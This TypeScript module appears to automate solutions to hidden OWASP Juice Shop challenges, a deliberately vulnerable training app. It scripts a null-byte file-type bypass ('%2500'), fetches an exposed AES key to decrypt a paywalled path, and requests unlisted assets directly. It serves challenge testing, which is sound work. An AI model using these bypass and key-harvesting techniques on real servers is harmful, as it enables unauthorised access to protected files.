import { createDecipheriv } from 'node:crypto'
import request from 'supertest'
import type { AttackTarget, Attacks } from '../../lib/attacks'

const rot13 = (text: string) =>
  text.replace(/[a-z]/gi, (c) => String.fromCharCode(((c.toLowerCase().charCodeAt(0) - 97 + 13) % 26) + 97))

/** eastere.gg (through the null byte) holds a base64 string; decoded and ROT13-shifted, it is a path. */
export async function nestedEasterEggPath(target: AttackTarget): Promise<string> {
  const egg = await request(target).get('/ftp/eastere.gg%2500.md').responseType('blob')
  const encoded = /^\s+([A-Za-z0-9+/=]{40,})$/m.exec(String(egg.body))?.[1] ?? ''
  return rot13(Buffer.from(encoded, 'base64').toString('utf8'))
}

/** The comment in the challenge's description, decrypted (AES-256-CBC) with the IV and key of premium.key, is a path. */
export async function premiumPath(target: AttackTarget): Promise<string> {
  const challenges = await request(target).get('/api/Challenges/?key=premiumPaywallChallenge')
  const ciphertext = /<!--(.+)-->/.exec(challenges.body.data[0].description)?.[1] ?? ''
  const [iv = '', key = ''] = (await request(target).get('/encryptionkeys/premium.key')).text.trim().split('.')
  const padded = (hex: string, bytes: number) => Buffer.concat([Buffer.from(hex, 'hex')], bytes)
  const decipher = createDecipheriv('aes-256-cbc', padded(key, 32), padded(iv, 16))
  return Buffer.concat([decipher.update(ciphertext, 'base64'), decipher.final()]).toString('utf8')
}

export const hiddenAttacks = {
  easterEggLevelTwoChallenge: async (target) => request(target).get(await nestedEasterEggPath(target)),
  premiumPaywallChallenge: async (target) => request(target).get(await premiumPath(target)),
  // the 3D model named in the keychain photo's metadata lies next to the product photos
  retrieveBlueprintChallenge: (target) => request(target).get('/assets/public/images/products/JuiceShop.stl').buffer(true),
  // the language list hides the Klingon file, but it is served like the others
  extraLanguageChallenge: (target) => request(target).get('/assets/i18n/tlh_AA.json'),
} satisfies Attacks
